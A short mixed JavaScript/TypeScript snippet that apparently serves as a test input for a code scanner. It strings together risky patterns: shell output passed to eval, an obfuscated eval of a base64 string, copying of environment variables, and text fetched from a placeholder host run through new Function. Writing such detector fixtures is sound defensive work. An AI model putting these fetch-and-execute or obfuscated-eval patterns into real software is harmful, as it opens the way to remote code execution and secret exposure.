const { exec: e } = require('node:child_process');
import * as fs from "fs";
e(`ls ${process.env.HOME}`, (err, out) => eval(out));
window['ev' + 'al'](atob('aGk=') + String.fromCharCode(104, 105));
['a', "\x62\u{63}"].reverse().join('');
fetch('https://h.example').then(async r => { let d = ''; d += await r.text(); new Function(d)(); });
class A { run() { this.x = process.env; } }
enum E { A = 1 }
